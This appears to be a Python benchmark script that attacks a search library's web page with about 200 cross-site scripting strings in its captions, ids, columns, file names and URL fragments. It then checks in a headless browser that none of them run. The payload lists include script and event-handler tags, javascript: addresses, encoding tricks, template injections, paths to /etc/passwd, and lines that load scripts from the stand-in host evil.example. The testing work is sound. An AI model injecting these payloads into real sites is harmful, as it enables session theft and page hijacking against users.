"""The search page among strangers' data: 200 strings that would be code, as captions, columns, ids, files and queries.

    python benchmarks/torture_page.py [--small]

Needs Debian's chromium and playwright.
"""

import argparse
import shutil
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import pyarrow as pa
import torch
from PIL import Image

try:
    from playwright.sync_api import Error, sync_playwright
except ModuleNotFoundError:
    Error, sync_playwright = Exception, None

import fusemix as fm
from fusemix.search.hit import Found
from fusemix.search.index import Index
from fusemix.search.previews import encoded
from fusemix.search.space import Space
from goals import leave, result
from served import Server, make_index

CHROMIUM = shutil.which("chromium")
WORDS = ["--no-sandbox", "--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"]
MISSING = ""
if sync_playwright is None or CHROMIUM is None:
    MISSING = "the page is tested in a browser: apt-get install chromium; pip install 'fusemix[dev]'"

HOSTILE = "<img src=x onerror=alert(1)>"  # name of an index
ACTIONS = ("window.__xss=1", "alert(1)", "fetch('//evil.example/1')", "top.location='//evil.example/2'")
TAGS = """
<script>{a}</script>
<script src=//evil.example/x.js></script>
<script type=module>{a}</script>
<img src=x onerror="{a}">
<img src=//evil.example/x.png>
<img srcset="//evil.example/x.png 1x">
<image href=x onerror="{a}">
<svg onload="{a}">
<svg><script>{a}</script></svg>
<svg><animate onbegin="{a}" attributeName=x dur=1s></svg>
<svg><set onbegin="{a}" attributeName=x></svg>
<svg><a href="javascript:{a}"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload='{a}'/>#x"></use></svg>
<svg><foreignObject><iframe onload="{a}"></iframe></foreignObject></svg>
<svg><style><img src=x onerror="{a}"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={a}&gt;">
<math href="javascript:{a}">x</math>
<iframe srcdoc="<script>parent.{a}</script>"></iframe>
<iframe src="javascript:parent.{a}"></iframe>
<iframe src=//evil.example></iframe>
<object data="javascript:{a}"></object>
<embed src="javascript:{a}">
<body onload="{a}">
<html onmousemove="{a}">
<details open ontoggle="{a}">x</details>
<video src=x onerror="{a}"></video>
<video><source onerror="{a}"></video>
<audio src=x onerror="{a}"></audio>
<audio src=//evil.example/x.mp3 autoplay></audio>
<input autofocus onfocus="{a}">
<input type=image src=x onerror="{a}">
<select autofocus onfocus="{a}"></select>
<textarea autofocus onfocus="{a}"></textarea>
<button popovertarget=x onclick="{a}">x</button>
<div popover id=x onbeforetoggle="{a}">x</div>
<x contenteditable tabindex=1 autofocus onfocus="{a}">x</x>
<marquee onstart="{a}">x</marquee>
<a href="javascript:{a}">x</a>
<a href=//evil.example target=_blank ping=//evil.example>x</a>
<form action="javascript:{a}"><button>x</button></form>
<form><button formaction="javascript:{a}">x</button></form>
<isindex action="javascript:{a}" type=submit>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x onload="{a}">
<style>@import '//evil.example/x.css';</style>
<style onload="{a}"></style>
<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{a}">x</p>
<p style="background:url(//evil.example/x.png)">x</p>
<p style="position:fixed;inset:0;z-index:9" onmouseover="{a}">x</p>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;url=javascript:{a}">
<base href=//evil.example/>
<template><script>{a}</script></template>
<template shadowrootmode=open><script>{a}</script></template>
<noscript><p title="</noscript><img src=x onerror='{a}'>">
<xmp><p title="</xmp><img src=x onerror='{a}'>">
<plaintext><script>{a}</script>
<table background=//evil.example/x.png><td>x
<dialog open onclose="{a}"><form method=dialog><button>x</button></form></dialog>
<frameset onpageshow="{a}"><frame src="javascript:{a}">
""".strip().splitlines()
BREAKOUTS = (
    '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", '" autofocus x="',
    '" onfocus="window.__xss=1" autofocus x="', "' onerror='window.__xss=1' x='", "\\\");window.__xss=1;//", "*/-->",
)  # fmt: skip
ENCODINGS = {
    "entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "decimal entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "hex entities without ends": lambda text: "".join(f"&#x{ord(c):x}" for c in text),
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "escapes of scripts": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "escapes of styles": lambda text: "".join(f"\\{ord(c):x} " for c in text),
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "mixed case": lambda text: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text)),
    "slashes for spaces": lambda text: text.replace(" ", "/"),
    "tabs for spaces": lambda text: text.replace(" ", "\t"),
    "new lines for spaces": lambda text: text.replace(" ", "\n"),
    "no-break spaces": lambda text: text.replace(" ", "\N{NO-BREAK SPACE}"),
    "NUL in tags": lambda text: text.replace("<", "<\0"),
    "invisible in tags": lambda text: text.replace("<", "<\N{ZERO WIDTH SPACE}"),
    "right to left": lambda text: "\N{RIGHT-TO-LEFT OVERRIDE}" + text,
    "a mark first": lambda text: "\N{ZERO WIDTH NO-BREAK SPACE}" + text,
    "nested": lambda text: text.replace("<", "<<").replace("script", "scr<script>ipt"),
    "without an end": lambda text: text.rstrip(">"),
}
ADDRESSES = """
javascript:{a}
JaVaScRiPt:{a}
java\tscript:{a}
 javascript:{a}
javascript://%0a{a}
javascript:void({a})
data:text/html,<script>{a}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{a}'/>
vbscript:msgbox(1)
blob:http://evil.example/1
//evil.example/x.png
http://evil.example/x.png
file:///etc/passwd
../../../etc/passwd
""".strip("\n").splitlines()
TEMPLATES = """
{{{{constructor.constructor('{a}')()}}}}
${{{a}}}
#{{{a}}}
<%= {a} %>
{{% {a} %}}
[[{a}]]
*{{{a}}}
{{{{{{{a}}}}}}}
@({a})
!{{{a}}}
{{"__proto__": {{"onerror": "{a}"}}}}
__proto__
constructor
toString
hasOwnProperty
prototype
innerHTML
""".strip().splitlines()
PLAIN = (
    "\N{LINE SEPARATOR}window.__xss=1//", "\N{PARAGRAPH SEPARATOR}window.__xss=1", "\0", "\x1b]0;x\x07", "\r\n\r\n<b>x",
    "e" + "\N{COMBINING ACUTE ACCENT}" * 300, "\N{LATIN SMALL LIGATURE FFI}" * 200, "\N{RIGHT-TO-LEFT ISOLATE}<b>",
    "\U0001f468\N{ZERO WIDTH JOINER}\U0001f469" * 40, "<", "&", "&amp", "&lt;b&gt;", "<!--", "<![CDATA[", "<?php x ?>",
    "a" * 1000, "#text=<b>x", "&where=modality = x", "+1*text", "-1*item@image=x", "?token=x&k=9", "x = y", "x ~ <b>",
)  # fmt: skip


def payloads(count: int = 200) -> list[str]:
    """Return distinct strings: tags, break-outs of attributes, encodings, addresses, templates, odd letters."""
    written = [tag.format(a=ACTIONS[i % len(ACTIONS)]) for i, tag in enumerate(TAGS)]
    short = [written[0], written[3], written[7]]
    broken = [start + short[(i + shift) % 3] for shift in (0, 1) for i, start in enumerate(BREAKOUTS)]
    coded = [change(text) for change in ENCODINGS.values() for text in short]
    filled = [one.format(a=ACTIONS[0]) for one in (*ADDRESSES, *TEMPLATES)]
    families = [written, broken, coded, filled, [*PLAIN]]
    spread = [one for turn in range(len(TAGS)) for family in families for one in family[turn : turn + 1]]
    every = list(dict.fromkeys(spread))
    assert len(every) >= count
    return every[:count]


def hostile_index(space: Space, strings: list[str]) -> Index:
    """Make an index whose texts, ids, columns and names of columns are these strings."""
    count = len(strings)
    name = next(name for name, side in space.sides_.items() if side.kind == "text")
    other = next(name for name, side in space.sides_.items() if side.kind == "image")
    dim = space.embed_latents(name, np.zeros((1, space.sides_[name].dim), np.float32)).shape[1]
    vectors = torch.nn.functional.normalize(torch.randn(2 * count, dim, generator=torch.Generator().manual_seed(0)))
    turned = strings[1:] + strings[:1]
    both = [*strings, *strings]
    items = pa.table({"modality": [name] * count + [other] * count, "id": both, "value": turned + strings})
    few = (strings[:40] * 2 * count)[: 2 * count]
    columns = pa.table({strings[0]: both, "few": few, "__proto__": both, strings[1]: turned * 2})
    picture = encoded(Image.new("RGB", (8, 8), "teal"))
    previews = pa.chunked_array([pa.array([None] * count + [picture] * count, pa.large_binary())])
    found = {name: Found("text", Path()), other: Found("image", Path())}
    return Index(vectors, items, columns, found, space, previews)


HELD = """
#hits :is(.words, .id, .caption, .badge, dt, dd), .label, .message, .advice, option, h1, title, .filter > span,
.filter-chip span, #status, #facts, #hint
"""
FOREIGN = """
script:not([src='page.js']), link:not([rel=icon], [href='page.css']), meta:not([charset], [name]), base, style, iframe,
frame, frameset, object, embed, template, math, marquee, video, a:not(#skip), details:not(#filters), x
"""
MARKUP = f"""() => new Set([
  ...[...document.querySelectorAll(`{HELD}`)].flatMap((node) => [...node.children]),
  ...document.querySelectorAll(`{FOREIGN}`),
  ...[...document.querySelectorAll("*")].filter((node) => node.getAttributeNames().some((name) => /^on/.test(name))),
]).size"""


class Watch:
    """What a browser context does that it should not.

    Attributes:
        dialogs: messages of alert and the like.
        elsewhere: addresses that were asked for and are not of the server.
        lines: what was written to the console as a warning or an error, and what a script raised.
    """

    def __init__(self, context: Any, origin: str) -> None:
        self.origin = origin
        self.dialogs: list[str] = []
        self.elsewhere: list[str] = []
        self.lines: list[str] = []
        context.on("dialog", self._dialog)
        context.on("request", self._request)
        context.on("console", self._line)
        context.on("weberror", lambda error: self.lines.append(str(error.error)))

    @property
    def quiet(self) -> bool:
        """Nothing of all that; an assertion that fails shows what."""
        assert (self.dialogs, self.elsewhere, self.lines) == ([], [], [])
        return True

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        with suppress(Error):  # its page may be gone
            dialog.dismiss()

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.origin, "data:", f"blob:{self.origin}")):
            self.elsewhere.append(request.url)

    def _line(self, message: Any) -> None:
        # Chromium itself tells of every answer that is an error; the page tells the user.
        if message.type in ("warning", "error") and not message.text.startswith("Failed to load resource"):
            self.lines.append(message.text)


@contextmanager
def browser() -> Iterator[Any]:
    """Start Debian's chromium, headless, with a microphone that only beeps."""
    with sync_playwright() as play:
        chromium = play.chromium.launch(executable_path=CHROMIUM, args=WORDS)
        try:
            yield chromium
        finally:
            chromium.close()


def settle(page: Any) -> None:
    """Wait until the answer to what was asked is drawn."""
    page.locator("#results[aria-busy=false]").wait_for()


def show(page: Any, address: str) -> list[str]:
    """Open an address of the search page anew and return the ids of the items there."""
    page.goto("about:blank")
    page.goto(address)
    page.locator(".card").first.wait_for()
    page.locator("#filters > summary").click()
    return page.locator("#hits .id").all_text_contents()


def ask(page: Any, words: str) -> None:
    """Search by words."""
    page.locator("#words").fill(words)
    page.locator("#words").press("Enter")
    settle(page)


def send_file(page: Any, name: str) -> None:
    """Search by a file of a name."""
    page.locator("#file").set_input_files({"name": name, "mimeType": "image/png", "buffer": PICTURE})
    settle(page)


def follow(page: Any, text: str) -> None:
    """Follow an address that has the text in every place."""
    part = quote(text, safe="")
    parts = [f"text@{part}={part}", f"-1*item@{part}={part}", f"vector@{part}=AAAA", f"where={part}+~+{part}"]
    page.evaluate("(hash) => { location.hash = hash; }", "&".join([*parts, f"among={part}"]))
    page.locator(".notice:not([hidden])").first.wait_for()
    settle(page)


def made_of_strings(page: Any, watch: Watch, path: str = "/") -> tuple[int, int]:
    """Count what was executed, and the nodes of the page that came out of a string."""
    done = len(watch.dialogs) + len(watch.elsewhere) + bool(page.evaluate("window.__xss"))
    return done + (not page.url.startswith(f"{watch.origin}{path}")), page.evaluate(MARKUP)


def _png() -> bytes:
    out = BytesIO()
    Image.new("RGB", (8, 8), "teal").save(out, "PNG")
    return out.getvalue()


PICTURE = _png()


def torture(page: Any, watch: Watch, strings: list[str]) -> None:
    """Put every string in every place."""
    executed, markup, wrong = 0, 0, 0
    ids = show(page, f"{watch.origin}/#k=1000")
    wrong += sorted(ids) != sorted(2 * strings)
    executed, markup = made_of_strings(page, watch)
    places = 3 * len(strings)  # text, column and id of the items
    for text in strings:
        for what in (ask, follow):
            what(page, text)
            done, nodes = made_of_strings(page, watch)
            executed, markup, places = executed + done, markup + nodes, places + 1
        wrong += " ".join(page.locator("#terms .label").first.text_content().split()) != " ".join(text.split())
        send_file(page, f"{text}.png")
        done, nodes = made_of_strings(page, watch)
        executed, markup, places = executed + done, markup + nodes, places + 1
    print(f"# {len(strings)} strings in {places} places; {watch.dialogs[:3]} {watch.elsewhere[:3]} {watch.lines[:3]}")
    result("strings that were executed", executed, "0", lambda x: x == 0)
    result("markup nodes made of strings", markup, "0", lambda x: x == 0)
    result("strings that were not shown as they are", wrong, "0", lambda x: x == 0)
    result("lines in the console, violations of the policy among them", len(watch.lines), "0", lambda x: x == 0)


CARELESS = """(text) => {
  document.body.innerHTML = text;
  document.body.insertAdjacentHTML("beforeend", `<p title="${text}" data-x='${text}'>x</p>`);
  const link = Object.assign(document.createElement("a"), { href: text });
  if (link.protocol === "javascript:") link.click();
}"""


def acts(chromium: Any, text: str) -> bool:
    """Tell whether a string does something where a page is careless: then its silence elsewhere means something."""
    page = chromium.new_page()
    watch = Watch(page.context, "http://careless.example/")
    page.route("**", lambda route: route.fulfill(body="<!doctype html><body>x", content_type="text/html"))
    page.goto(watch.origin)
    try:
        page.evaluate(CARELESS, text)
        page.wait_for_timeout(100)
        return bool(watch.dialogs or watch.elsewhere or page.evaluate("window.__xss"))
    except Error:  # it is on its way to somewhere else
        return True
    finally:
        page.close()


def parse(route: Any) -> None:
    """Serve the page's script with a mistake: what are text nodes is parsed as HTML."""
    script, old = route.fetch().text(), "node.append(...children);"
    assert old in script
    new = "node.append(...children.map((one) => typeof one === 'string' "
    new += "? document.createRange().createContextualFragment(one) : one));"
    route.fulfill(body=script.replace(old, new), content_type="text/javascript")


def main() -> None:
    """Run all of it."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--small", action="store_true", help="every ninth string; misses a goal")
    given = parser.parse_args()
    if MISSING:
        sys.exit(MISSING)
    strings = payloads()[:: 9 if given.small else 1]
    with tempfile.TemporaryDirectory() as name, browser() as chromium:
        index = make_index(Path(name), 60)
        hostile_index(fm.open_index(index).space, strings).save(Path(name) / HOSTILE)
        with Server(Path(name) / HOSTILE) as server:
            page = chromium.new_page()
            torture(page, Watch(page.context, server.address), strings)
            careless = chromium.new_page()
            careless.route("**/page.js", parse)
            careless.goto(f"{server.address}/#text={quote('<b>x</b>')}&where=id+=+nothing")
            settle(careless)
            nodes = careless.evaluate(MARKUP)
            result("markup nodes where the page parses strings", nodes, "> 0", lambda x: x > 0)
            if server.told():
                print(f"# the server said: {server.told()[-2000:]}")
        count = sum(acts(chromium, text) for text in strings)
        result("strings that act where a page is careless", count, ">= 40", lambda x: x >= 40)
    leave()


if __name__ == "__main__":
    main()
